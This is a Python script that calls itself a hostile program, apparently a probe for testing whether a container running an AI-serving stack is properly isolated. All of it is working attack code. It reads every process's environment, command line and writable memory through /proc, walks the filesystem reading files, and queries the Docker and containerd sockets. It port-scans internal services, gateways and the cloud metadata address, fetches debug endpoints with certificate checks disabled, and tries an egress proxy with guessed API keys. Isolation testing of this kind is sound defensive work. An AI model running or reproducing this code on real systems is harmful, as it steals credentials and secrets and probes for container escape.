"""A hostile program: reads all that it can reach where it runs, and prints it.

Standard library only, run by ``python3 -c`` inside a container; it is told nothing. One JSON object a line on stdout:
``probe`` (environment, arguments, memory, files, sockets, network, requests), ``where``, and either ``data`` (base64)
or ``closed`` (why there was none).
"""

from __future__ import annotations

import base64
import glob
import http.client
import json
import os
import socket
import ssl
import struct
import sys
import threading
from concurrent.futures import ThreadPoolExecutor

FILE_BYTES, MEMORY_BYTES, TIMEOUT_S = 1 << 20, 96 << 20, 1.0
SKIPPED = ("proc", "sys", "usr", "lib", "lib64", "bin", "sbin", "boot", "dev")
SERVICES = [
    *("edge", "custodian", "litellm", "keycloak", "mlflow", "sso", "collector", "postgres", "redis", "model"),
    *("langfuse", "langfuse-worker", "clickhouse", "objects", "queue"),
    *("egress", "secrets", "host.docker.internal"),
]
PORTS = (
    22,
    53,
    80,
    443,
    2375,
    2376,
    4000,
    4180,
    4317,
    4318,
    5000,
    5432,
    6379,
    8080,
    8082,
    8090,
    8100,
    8101,
    8200,
    8443,
)
OUTSIDE_NAMES = ("example.com", "prompt-carried-out.example.com")
OUTSIDE = (("1.1.1.1", 443), ("8.8.8.8", 53), ("169.254.169.254", 80))
PATHS = ("/", "/api/rawdata", "/api/http/routers", "/debug/vars", "/debug/pprof/", "/metrics", "/egress", "/records")
ONE_AT_A_TIME = threading.Lock()
SOCKETS = ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock")


def tell(probe: str, where: str, data: bytes | None = None, closed: str | None = None) -> None:
    got = {"closed": closed} if data is None else {"data": base64.b64encode(data).decode()}
    line = json.dumps({"probe": probe, "where": where, **got}) + "\n"
    with ONE_AT_A_TIME:
        sys.stdout.write(line)
        sys.stdout.flush()


def read(probe: str, path: str, limit: int = FILE_BYTES) -> None:
    try:
        with open(path, "rb") as file:
            tell(probe, path, file.read(limit))
    except OSError as error:
        tell(probe, path, closed=error.strerror)


def processes() -> None:
    for pid in sorted(int(name) for name in os.listdir("/proc") if name.isdigit()):
        if pid != os.getpid():
            read("environment", f"/proc/{pid}/environ")
            read("arguments", f"/proc/{pid}/cmdline")
            memory(pid)


def memory(pid: int) -> None:
    try:
        with open(f"/proc/{pid}/maps", encoding="ascii") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
            left = MEMORY_BYTES
            for line in maps:
                span, mode = line.split(maxsplit=2)[:2]
                begin, end = (int(part, 16) for part in span.split("-"))
                if not mode.startswith("rw") or left <= 0:
                    continue
                for at in range(begin, min(end, begin + left), FILE_BYTES):
                    try:
                        mem.seek(at)
                        tell("memory", f"/proc/{pid}/mem {at:x}", mem.read(min(end - at, FILE_BYTES)))
                    except OSError:
                        break
                left -= end - begin
    except (OSError, OverflowError, ValueError) as error:
        tell("memory", f"/proc/{pid}/mem", closed=getattr(error, "strerror", None) or str(error))


def files(root: str) -> None:
    for top in sorted(os.listdir(root)):
        if top in SKIPPED:
            continue
        for folder, folders, names in os.walk(os.path.join(root, top), onerror=refused):
            folders[:] = [name for name in folders if name not in ("site", "site-packages", "node_modules", "overlay2")]
            for name in names:
                path = os.path.join(folder, name)
                if os.path.isfile(path) and not os.path.islink(path):
                    read("files", path)


def refused(error: OSError) -> None:
    tell("files", str(error.filename), closed=error.strerror)


def gateways() -> list[str]:
    """The host's end of every network that this program is on."""
    found = set()
    with open("/proc/net/route", encoding="ascii") as table:
        for line in list(table)[1:]:
            _, destination, gateway, *_ = line.split()
            for address, offset in ((destination, 1), (gateway, 0)):
                number = struct.unpack("<I", struct.pack(">I", int(address, 16)))[0]
                if number:
                    found.add(socket.inet_ntoa(struct.pack(">I", number + offset)))
    return sorted(found)


def resolved(name: str) -> bool:
    try:
        tell("network", f"name {name}", socket.gethostbyname(name).encode())
    except OSError as error:
        tell("network", f"name {name}", closed=str(error))
        return False
    return True


def connected(target: tuple[str, int]) -> tuple[tuple[str, int], str]:
    host, port = target
    try:
        socket.create_connection((host, port), TIMEOUT_S).close()
    except OSError as error:
        return target, str(error)
    return target, ""


def network() -> None:
    with ThreadPoolExecutor(32) as pool:
        names = [*SERVICES, *OUTSIDE_NAMES]
        known = {name for name, found in zip(names, pool.map(resolved, names), strict=True) if found}
        inside = [(name, port) for name in SERVICES if name in known for port in PORTS]
        hosts = [(host, port) for host in ("127.0.0.1", *gateways()) for port in PORTS]
        for (host, port), why in pool.map(connected, [*inside, *hosts, *OUTSIDE]):
            if why:
                tell("network", f"{host}:{port}", closed=why)
                continue
            tell("network", f"{host}:{port}", b"open")
            for path in PATHS:
                pool.submit(ask, host, port, "GET", path)
    stolen = {"x-api-key": "praxis-egress", "x-praxis-ticket": "guessed", "content-type": "application/json"}
    for provider in ("anthropic/v1/messages", "openai/v1/chat/completions"):
        ask("egress", 8200, "POST", f"/{provider}", stolen)
        ask("egress", 8200, "POST", f"/{provider}", {**stolen, "x-api-key": "sk-an-account-of-the-attackers"})
    ask("egress", 8200, "CONNECT", "api.anthropic.com:443")
    ask("egress", 8200, "GET", "https://example.com/")


def ask(host: str, port: int, method: str, path: str, headers: dict[str, str] | None = None) -> None:
    connection = http.client.HTTPConnection(host, port, timeout=TIMEOUT_S * 3)
    if port in (443, 8101, 8443):
        trusting = ssl._create_unverified_context()  # noqa: S323 - it believes anybody
        connection = http.client.HTTPSConnection(host, port, timeout=TIMEOUT_S * 3, context=trusting)
    try:
        connection.request(method, path, body=b"{}" if method == "POST" else None, headers=headers or {})
        answer = connection.getresponse()
        shown = f"{answer.status} {answer.getheaders()}\n".encode() + answer.read(FILE_BYTES)
        tell("requests", f"{method} {host}:{port}{path}", shown)
        connection.close()
    except (OSError, http.client.HTTPException, ValueError) as error:
        tell("requests", f"{method} {host}:{port}{path}", closed=str(error) or type(error).__name__)


def sockets(root: str) -> None:
    for path in SOCKETS:
        whole = root.rstrip("/") + path
        connection = socket.socket(socket.AF_UNIX)
        connection.settimeout(TIMEOUT_S)
        try:
            connection.connect(whole)
            connection.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n")
            tell("sockets", whole, connection.recv(FILE_BYTES))
        except OSError as error:
            tell("sockets", whole, closed=str(error))
    for path in glob.glob("/proc/*/fd/*"):
        if not path.startswith(f"/proc/{os.getpid()}/"):
            try:
                os.readlink(path)
            except OSError:
                continue
            if os.path.isfile(path):
                read("files", path, 4096)


if __name__ == "__main__":
    ROOT = sys.argv[1] if len(sys.argv) > 1 else "/"
    tell("environment", "own", "\n".join(f"{key}={value}" for key, value in os.environ.items()).encode())
    processes()
    files(ROOT)
    sockets(ROOT)
    network()
